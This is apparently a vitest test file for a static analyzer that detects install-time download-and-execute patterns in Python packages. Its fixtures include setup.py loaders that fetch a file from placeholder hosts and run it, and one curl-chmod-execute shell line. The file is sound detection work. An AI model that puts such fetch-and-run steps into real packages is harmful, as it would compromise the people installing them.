// The staged-loader model in Python (src/analyzers/python/downloads.ts): a response written to a
// file that is then run is a download-execution, with the trigger of the code that runs it.
import { describe, expect, it } from "vitest";
import { analyze, flowsOf } from "./helpers.js";

const loader = (run: string) => `
  import os, subprocess, requests
  from setuptools import setup
  def fetch():
      r = requests.get("https://cdn.example.invalid/tool")
      with open("/tmp/tool-x", "wb") as fh:
          fh.write(r.content)
  fetch()
  ${run}
  setup(name="x")
`;

describe("download-execution facts (Python)", () => {
  it("follows a response into a file and the run of that file, through a function", async () => {
    const facts = await analyze({ "setup.py": loader(`subprocess.call(["/tmp/tool-x", "--go"])`) });
    expect(facts.downloadExecutions?.map((f) => [f.location.line, f.path, f.trigger, f.fetch.destination, f.fetch.location.line])).toEqual([
      [8, "/tmp/tool-x", "install", "https://cdn.example.invalid/tool", 4],
    ]);
    expect(flowsOf(facts)).toEqual([]);
    expect(facts.sources).toEqual([]);
  });

  it("ignores a run of another file, and reads os.system command lines (curl -o, then run)", async () => {
    expect((await analyze({ "setup.py": loader(`subprocess.call(["/tmp/other"])`) })).downloadExecutions).toBeUndefined();
    const shell = await analyze({ "setup.py": `import os\nos.system("curl -s -o /tmp/a http://203.0.113.3/a && chmod +x /tmp/a && /tmp/a")\n` });
    expect(shell.downloadExecutions?.map((f) => [f.path, f.fetch.destination, f.trigger])).toEqual([["/tmp/a", "http://203.0.113.3/a", "install"]]);
  });

  it("has the trigger of the code that runs the file (a library function is call-time)", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import subprocess, urllib.request
        def update():
            urllib.request.urlretrieve("https://dl.example.invalid/u", "/tmp/u-bin")
            subprocess.run(["/tmp/u-bin"])
      `,
    });
    expect(facts.downloadExecutions?.map((f) => f.trigger)).toEqual(["call"]);
  });
});
